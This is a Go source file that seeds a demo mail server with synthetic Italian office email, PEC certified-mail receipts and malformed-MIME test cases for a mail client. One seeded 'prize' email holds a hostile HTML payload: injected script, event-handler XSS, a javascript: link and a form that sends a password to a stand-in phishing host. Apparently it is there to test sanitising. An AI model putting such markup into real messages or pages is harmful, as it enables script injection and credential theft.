package demo

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"mime"
	netmail "net/mail"
	"strings"
	"time"

	"github.com/emersion/go-imap/v2"

	"sportello/mail"
)

const (
	info = "info@studio.test"
	pec  = "studio.rossi@pec.studio.test"
)

// sample is one seeded message: where it goes and how it looks.
type sample struct {
	folder string
	flags  []imap.Flag
	raw    []byte
}

type person struct{ name, addr string }

var clients = []person{
	{"Mario Bianchi", "mario.bianchi@example.it"},
	{"Lucia Verdi", "lucia.verdi@example.it"},
	{"Francesca Esposito", "f.esposito@example.org"},
	{"Giuseppe Romano", "giuseppe.romano@example.it"},
	{"Anna Colombo", "anna@colombo-srl.example.it"},
	{"John Smith", "john.smith@example.com"},
	{"Emily Clarke", "emily.clarke@example.co.uk"},
	{"Ufficio Tributi", "tributi@comune-esempio.example.it"},
	{"Banca Esempio", "no-reply@banca.example.it"},
	{"Sofia Ricci", "sofia.ricci@example.it"},
}

var italianTopics = []string{
	"Richiesta preventivo", "Fattura n. %d/2026", "Appuntamento di giovedì", "Documenti pratica %d",
	"Dichiarazione dei redditi", "Scadenza F24", "Verbale assemblea", "Contratto di locazione",
	"Sollecito pagamento", "Conferma ricezione", "Bilancio d'esercizio", "Variazione dati anagrafici",
}

var englishTopics = []string{
	"Invoice %d", "Meeting next week", "Contract review", "Quarterly report", "Question about VAT",
	"Payment reminder", "Welcome aboard", "Signed documents",
}

var italianBodies = []string{
	"Buongiorno,\r\n\r\nvi scrivo per chiedere un aggiornamento sulla pratica in oggetto. Resto in attesa di un vostro riscontro.\r\n\r\nCordiali saluti,\r\n%s",
	"Gentili signori,\r\n\r\nin allegato trovate la documentazione richiesta. Per qualsiasi chiarimento sono a disposizione.\r\n\r\nDistinti saluti\r\n%s",
	"Ciao,\r\n\r\nconfermo l'appuntamento per giovedì alle 10:30 presso il vostro studio. Porterò i documenti originali.\r\n\r\nGrazie,\r\n%s",
}

var englishBodies = []string{
	"Hello,\r\n\r\ncould you please send me an update on this? I would like to close it before the end of the month.\r\n\r\nBest regards,\r\n%s",
	"Hi,\r\n\r\nplease find attached the documents we discussed on the phone. Let me know if anything is missing.\r\n\r\nThanks,\r\n%s",
}

// topic fills a subject's number, if it has a place for one.
func topic(format string, n int) string {
	if strings.Contains(format, "%d") {
		return fmt.Sprintf(format, n)
	}
	return format
}

func encodeSubject(s string) string {
	return mime.QEncoding.Encode("utf-8", s)
}

func header(b *bytes.Buffer, from person, to, subject, msgID string, date time.Time, extra ...string) {
	fmt.Fprintf(b, "From: %s <%s>\r\n", mime.QEncoding.Encode("utf-8", from.name), from.addr)
	fmt.Fprintf(b, "To: %s\r\n", to)
	fmt.Fprintf(b, "Subject: %s\r\n", encodeSubject(subject))
	if msgID != "" {
		fmt.Fprintf(b, "Message-ID: <%s>\r\n", msgID)
	}
	fmt.Fprintf(b, "Date: %s\r\n", date.Format(time.RFC1123Z))
	for _, e := range extra {
		b.WriteString(e + "\r\n")
	}
	b.WriteString("MIME-Version: 1.0\r\n")
}

func plain(from person, to, subject, msgID string, date time.Time, body string, extra ...string) []byte {
	var b bytes.Buffer
	header(&b, from, to, subject, msgID, date, extra...)
	b.WriteString("Content-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n")
	b.WriteString(body)
	b.WriteString("\r\n")
	return b.Bytes()
}

type attachment struct {
	name, ctype string
	data        []byte
}

func withAttachments(from person, to, subject, msgID string, date time.Time, body string, atts ...attachment) []byte {
	var b bytes.Buffer
	header(&b, from, to, subject, msgID, date)
	boundary := "=_demo_" + strings.ReplaceAll(msgID, "@", "_")
	fmt.Fprintf(&b, "Content-Type: multipart/mixed; boundary=\"%s\"\r\n\r\n", boundary)
	fmt.Fprintf(&b, "--%s\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n%s\r\n", boundary, body)
	for _, a := range atts {
		fmt.Fprintf(&b, "--%s\r\nContent-Type: %s; name=\"%s\"\r\nContent-Disposition: attachment; filename*=UTF-8''%s\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n",
			boundary, a.ctype, mime.QEncoding.Encode("utf-8", a.name), rfc2231(a.name), wrap64(a.data))
	}
	fmt.Fprintf(&b, "--%s--\r\n", boundary)
	return b.Bytes()
}

func rfc2231(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || strings.IndexByte("-._", c) >= 0 {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

func htmlMail(from person, to, subject, msgID string, date time.Time, textBody, htmlBody string) []byte {
	var b bytes.Buffer
	header(&b, from, to, subject, msgID, date)
	boundary := "=_alt_" + strings.ReplaceAll(msgID, "@", "_")
	fmt.Fprintf(&b, "Content-Type: multipart/alternative; boundary=\"%s\"\r\n\r\n", boundary)
	fmt.Fprintf(&b, "--%s\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n%s\r\n", boundary, textBody)
	fmt.Fprintf(&b, "--%s\r\nContent-Type: text/html; charset=UTF-8\r\n\r\n%s\r\n", boundary, htmlBody)
	fmt.Fprintf(&b, "--%s--\r\n", boundary)
	return b.Bytes()
}

// A tiny valid PDF and PNG, so downloads open in a viewer.
var (
	samplePDF = []byte("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/MediaBox[0 0 200 100]/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>endobj 4 0 obj<</Length 44>>stream\nBT /F1 18 Tf 20 40 Td (Sportello demo) Tj ET\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
	samplePNG = []byte{0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x02, 0x00, 0x00, 0x00, 0x90, 0x77, 0x53, 0xde, 0x00, 0x00, 0x00, 0x0c, 0x49, 0x44, 0x41, 0x54, 0x08, 0xd7, 0x63, 0x68, 0x60, 0xd8, 0x00, 0x00, 0x02, 0x84, 0x01, 0x81, 0x6b, 0x2c, 0x1b, 0x8a, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82}
)

// infoSamples is the info@ mailbox: a few hundred messages of an ordinary
// office year, generated the same way on every run.
func infoSamples(now time.Time) []sample {
	r := rand.New(rand.NewPCG(2026, 12))
	var out []sample
	add := func(folder string, raw []byte, flags ...imap.Flag) {
		out = append(out, sample{folder, flags, raw})
	}
	me := person{"Studio Rossi", info}
	// 200 ordinary messages over the last 120 days, oldest first.
	for i := 0; i < 200; i++ {
		c := clients[r.IntN(len(clients))]
		date := now.Add(-time.Duration(200-i) * 14 * time.Hour).Add(-time.Duration(r.IntN(3600)) * time.Second)
		id := fmt.Sprintf("demo-%d@%s", i, domainOf(c.addr))
		var subject, body string
		if strings.HasSuffix(c.addr, ".com") || strings.HasSuffix(c.addr, ".co.uk") {
			subject = topic(englishTopics[r.IntN(len(englishTopics))], 100+i)
			body = fmt.Sprintf(englishBodies[r.IntN(len(englishBodies))], c.name)
		} else {
			subject = topic(italianTopics[r.IntN(len(italianTopics))], 100+i)
			body = fmt.Sprintf(italianBodies[r.IntN(len(italianBodies))], c.name)
		}
		var flags []imap.Flag
		if i < 170 {
			flags = append(flags, imap.FlagSeen)
		}
		if r.IntN(12) == 0 {
			flags = append(flags, imap.FlagFlagged)
		}
		switch {
		case i%9 == 0:
			add("INBOX", withAttachments(c, info, subject, id, date, body,
				attachment{"Documento firmato è.pdf", "application/pdf", samplePDF},
				attachment{"foto.png", "image/png", samplePNG}), flags...)
		case i%13 == 0 && i > 0:
			// A thread: the client's message, our reply, their answer.
			add("INBOX", plain(c, info, subject, id, date, body), flags...)
			reply := fmt.Sprintf("reply-%d@studio.test", i)
			add("Sent", plain(me, c.addr, "R: "+subject, reply, date.Add(time.Hour),
				"Gentile "+c.name+",\r\n\r\nabbiamo ricevuto, le rispondiamo a breve.\r\n\r\nStudio Rossi\r\n\r\n> "+strings.ReplaceAll(body, "\r\n", "\r\n> "),
				"In-Reply-To: <"+id+">", "References: <"+id+">"), imap.FlagSeen)
			add("INBOX", plain(c, info, "R: R: "+subject, fmt.Sprintf("answer-%d@%s", i, domainOf(c.addr)), date.Add(3*time.Hour),
				"Grazie mille!\r\n\r\n"+c.name+"\r\n\r\n> abbiamo ricevuto, le rispondiamo a breve.",
				"In-Reply-To: <"+reply+">", "References: <"+id+"> <"+reply+">"), flags...)
		default:
			add("INBOX", plain(c, info, subject, id, date, body), flags...)
		}
	}
	day := func(d int) time.Time { return now.Add(-time.Duration(d) * 24 * time.Hour) }
	news := person{"Newsletter Fiscale", "news@fisco-news.example.com"}
	add("INBOX", htmlMail(news, info, "Novità fiscali di dicembre", "news-1@fisco-news.example.com", day(2),
		"Le novità fiscali del mese. Apri la versione HTML.",
		`<html><body><table width="100%" style="font-family:Georgia;background:#f4f4f4"><tr><td><h1 style="color:#1f5f8b">Novità fiscali</h1><p>Le scadenze di dicembre: <b>acconto IVA</b> entro il 27.</p><img src="https://news.fisco-news.example.com/track.png?u=info" alt="logo" width="120"><p><a href="https://fisco-news.example.com/articolo">Leggi l'articolo</a></p></td></tr></table></body></html>`))
	add("INBOX", htmlMail(person{"Sconosciuto", "prize@phish.example.net"}, info, "Hai vinto un premio!", "phish-1@phish.example.net", day(1),
		"Clicca per ritirare il premio.",
		`<html><head><script>document.title='pwned';window.parent.postMessage('pwned','*')</script></head><body onload="alert(1)"><p>Clicca <a href="javascript:alert(2)">qui</a> per ritirare il premio.</p><img src="x" onerror="document.body.innerHTML='pwned'"><form action="https://phish.example.net/steal"><input name="password"></form><iframe src="https://phish.example.net"></iframe></body></html>`))
	// Odd charsets and broken MIME: listed and readable all the same.
	add("INBOX", []byte("From: =?ISO-8859-1?Q?Jos=E9_Garc=EDa?= <jose@example.es>\r\nTo: info@studio.test\r\nSubject: =?ISO-8859-1?Q?Informaci=F3n_sobre_el_a=F1o?=\r\nMessage-ID: <latin1@example.es>\r\nDate: "+day(3).Format(time.RFC1123Z)+"\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=ISO-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nEl a=F1o pasado, se=F1or: cortes=EDa y caf=E9.\r\n"))
	add("INBOX", []byte("From: Vecchio Gestionale <gestionale@example.it>\r\nTo: info@studio.test\r\nSubject: Caff\xe8 e perch\xe9: intestazione a 8 bit\r\nDate: "+day(4).Format(time.RFC1123Z)+"\r\nContent-Type: text/plain; charset=windows-1252\r\n\r\nUn messaggio senza Message-ID, con intestazioni a 8 bit: citt\xe0, perch\xe9, \x80 10.\r\n"))
	add("INBOX", []byte("From: Tanaka <tanaka@example.jp>\r\nTo: info@studio.test\r\nSubject: =?ISO-2022-JP?B?GyRCJDMkcyRLJEEkTxsoQg==?=\r\nMessage-ID: <jp@example.jp>\r\nDate: "+day(5).Format(time.RFC1123Z)+"\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=ISO-2022-JP\r\n\r\n\x1b$B$3$s$K$A$O\x1b(B\r\n"))
	add("INBOX", []byte("From: Broken Mailer <broken@example.org>\r\nTo: info@studio.test\r\nSubject: Broken MIME: missing boundary end\r\nMessage-ID: <broken@example.org>\r\nDate: "+day(6).Format(time.RFC1123Z)+"\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"XYZ\"\r\n\r\n--XYZ\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThe first part is fine.\r\n--XYZ\r\nContent-Type: application/pdf; name=\"cut.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK!!!not base64!!!\r\n"))
	add("INBOX", []byte("From: flowed@example.org\r\nTo: info@studio.test\r\nSubject: Format flowed\r\nMessage-ID: <flowed@example.org>\r\nDate: "+day(7).Format(time.RFC1123Z)+"\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8; format=flowed\r\n\r\nThis paragraph is written as several \r\nflowed lines that a reader joins \r\ninto one.\r\n\r\n> quoted text from \r\n> the previous message\r\n"))
	add("INBOX", []byte("From: nodate@example.org\r\nTo: info@studio.test\r\nSubject: No date, no Message-ID\r\n\r\nA message with the bare minimum of headers.\r\n"))
	// The other folders.
	for i := 0; i < 8; i++ {
		c := clients[i]
		add("Sent", plain(me, c.addr, "Promemoria scadenze", fmt.Sprintf("sent-%d@studio.test", i), day(10+i),
			"Gentile "+c.name+",\r\n\r\nle ricordiamo le prossime scadenze.\r\n\r\nStudio Rossi"), imap.FlagSeen)
	}
	for i := 0; i < 20; i++ {
		c := clients[i%len(clients)]
		add("Archive", plain(c, info, fmt.Sprintf("Pratica archiviata %d", i), fmt.Sprintf("arch-%d@%s", i, domainOf(c.addr)), day(200+i*3),
			"Pratica chiusa.\r\n"+c.name), imap.FlagSeen)
	}
	add("Drafts", plain(me, "lucia.verdi@example.it", "Bozza: risposta a Lucia", "draft-1@studio.test", day(1), "Cara Lucia,\r\n\r\n"), imap.FlagDraft, imap.FlagSeen)
	for i := 0; i < 3; i++ {
		add("Trash", plain(clients[i], info, "Vecchia comunicazione", fmt.Sprintf("trash-%d@example.it", i), day(30+i), "Da eliminare."), imap.FlagSeen)
	}
	add("Junk", plain(person{"Offerte", "offerte@spam.example.net"}, info, "Offerta imperdibile", "spam-1@spam.example.net", day(2), "Compra ora!"))
	return out
}

// pecSamples is the PEC mailbox: envelopes received from other PEC
// addresses, and messages the studio sent with their receipts (accepted,
// delivered, and one failed delivery).
func pecSamples(now time.Time) []sample {
	var out []sample
	add := func(folder string, raw []byte, flags ...imap.Flag) {
		out = append(out, sample{folder, flags, raw})
	}
	me := person{"Studio Rossi", pec}
	senders := []person{
		{"Agenzia delle Entrate", "dp.esempio@pec.agenziaentrate.example.it"},
		{"Tribunale di Esempio", "cancelleria@pec.tribunale.example.it"},
		{"INPS", "direzione@postacert.inps.example.it"},
	}
	for i, s := range senders {
		when := now.Add(-time.Duration(10-i) * 24 * time.Hour)
		msgID := fmt.Sprintf("orig-%d@%s", i, domainOf(s.addr))
		subject := []string{"Comunicazione esito controllo", "Notifica atto n. 2026/118", "Avviso di pagamento contributi"}[i]
		original := withAttachments(s, pec, subject, msgID, when, "Si trasmette in allegato la comunicazione in oggetto.\r\n\r\n"+s.name,
			attachment{"Comunicazione.pdf", "application/pdf", samplePDF})
		p := pecParams{MsgID: "<" + msgID + ">", Subject: subject, Sender: s.addr, Recipients: []string{pec},
			Identificativo: fmt.Sprintf("opec.demo.in.%d@%s", i, domainOf(s.addr)), When: when, Provider: "GESTORE ESEMPIO S.p.A."}
		flags := []imap.Flag{}
		if i > 0 {
			flags = append(flags, imap.FlagSeen)
		}
		add("INBOX", pecEnvelope(p, original), flags...)
	}
	// Sent by the studio, with receipts.
	sent := []struct {
		subject string
		to      []string
		fail    string
	}{
		{"Deposito memoria difensiva", []string{"cancelleria@pec.tribunale.example.it"}, ""},
		{"Istanza di rimborso", []string{"dp.esempio@pec.agenziaentrate.example.it", "protocollo@pec.comune.example.it"}, ""},
		{"Diffida ad adempiere", []string{"amministrazione@pec.debitore.example.it", "errato@pec.inesistente.example.it"}, "errato@pec.inesistente.example.it"},
	}
	for i, s := range sent {
		when := now.Add(-time.Duration(6-i) * 24 * time.Hour)
		msgID := fmt.Sprintf("sent-pec-%d@pec.studio.test", i)
		add("Sent", plain(me, strings.Join(s.to, ", "), s.subject, msgID, when, "Si trasmette quanto in oggetto.\r\n\r\nStudio Rossi"), imap.FlagSeen)
		p := pecParams{MsgID: "<" + msgID + ">", Subject: s.subject, Sender: pec, Recipients: s.to,
			Identificativo: fmt.Sprintf("opec.demo.out.%d@pec.studio.test", i), When: when.Add(time.Minute)}
		add("INBOX", pecReceipt(p, "accettazione", ""), imap.FlagSeen)
		for _, to := range s.to {
			p.When = p.When.Add(time.Minute)
			kind := "avvenuta-consegna"
			if to == s.fail {
				kind = "errore-consegna"
			}
			add("INBOX", pecReceipt(p, kind, to), imap.FlagSeen)
		}
	}
	return out
}

// arrival is when a seeded message reached the server: its Date, so the
// lists read like a real year of mail.
func arrival(raw []byte) time.Time {
	if t, err := netmail.ParseDate(mail.HeaderOf(raw).Get("Date")); err == nil {
		return t
	}
	return time.Now()
}

func (s *Server) seed(pecFixtures [][]byte) error {
	now := time.Now()
	for _, m := range infoSamples(now) {
		if err := s.deliverAt(info, m.folder, m.raw, arrival(m.raw), m.flags...); err != nil {
			return fmt.Errorf("demo: seeding %s: %w", m.folder, err)
		}
	}
	for _, m := range pecSamples(now) {
		if err := s.deliverAt(pec, m.folder, m.raw, arrival(m.raw), m.flags...); err != nil {
			return fmt.Errorf("demo: seeding PEC %s: %w", m.folder, err)
		}
	}
	for _, raw := range pecFixtures {
		if err := s.deliverAt(pec, "INBOX", raw, arrival(raw), imap.FlagSeen); err != nil {
			return fmt.Errorf("demo: seeding PEC fixture: %w", err)
		}
	}
	return nil
}
